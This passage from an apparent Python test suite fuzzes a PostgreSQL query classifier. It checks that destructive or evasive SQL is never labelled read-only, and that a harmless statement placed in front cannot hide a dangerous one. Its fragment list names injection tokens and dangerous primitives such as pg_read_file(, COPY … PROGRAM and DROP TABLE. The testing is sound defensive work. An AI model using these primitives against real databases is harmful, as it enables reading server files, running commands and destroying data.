def test_registry_is_bounded_and_forgets_oldest() -> None:
    session = PreparedStatements(max_entries=2)
    for name in ("a", "b", "c"):
        session.resolve(classify_postgres(f"PREPARE {name} AS SELECT 1"))
    assert "a" not in session
    assert session.resolve(classify_postgres("EXECUTE a")).classes == {UN}
    assert session.resolve(classify_postgres("EXECUTE c")).classes == {R}


# --- properties ------------------------------------------------------------------------------


def _invariants(c: Classification) -> None:
    assert isinstance(c, Classification)
    # Only an empty string (nothing runs) has no classes.
    assert c.classes or (not c.statements and c.error is None)
    if c.error is not None:
        assert UN in c.classes
    if c.statements:
        assert c.classes == frozenset().union(*(s.classes for s in c.statements))
        assert all(s.classes for s in c.statements)


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_never_raises_on_arbitrary_text(sql: str) -> None:
    _invariants(classify_postgres(sql))


_FRAGMENTS = [
    "SELECT",
    "DROP",
    "TABLE",
    "t",
    "DELETE",
    "FROM",
    "WHERE",
    "1=1",
    "OR",
    ";",
    "/*",
    "*/",
    "--",
    "\n",
    "'",
    "$$",
    '"',
    "(",
    ")",
    "pg_read_file(",
    "WITH",
    "AS",
    "UPDATE",
    "SET",
    "COPY",
    "PROGRAM",
    "DO",
    "E'\\'",
    'U&"\\0064"',
    "EXECUTE",
    "PREPARE",
    " ",
    ",",
    "$1",
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(_FRAGMENTS), max_size=20))
def test_never_raises_on_sql_shaped_text(parts: list[str]) -> None:
    sql = " ".join(parts)
    c = classify_postgres(sql)
    _invariants(c)
    # A destructive or escaping keyword sequence the parser accepts is never "just read".
    if "DROP TABLE" in sql and c.error is None and c.classes == {R}:
        assert "'" in sql or "$$" in sql or "--" in sql or "/*" in sql or '"' in sql


@settings(max_examples=100, deadline=None)
@given(
    st.sampled_from([s for _, s, e in EVASIONS if e - {R}]),
    st.sampled_from(["SELECT 1", "BEGIN", "SET x.y = 1"]),
)
def test_a_harmless_statement_in_front_hides_nothing(dangerous: str, harmless: str) -> None:
    alone = classify_postgres(dangerous)
    combined = classify_postgres(f"{harmless}; {dangerous}")
    if alone.error is None and "\x00" not in dangerous:
        assert alone.classes <= combined.classes
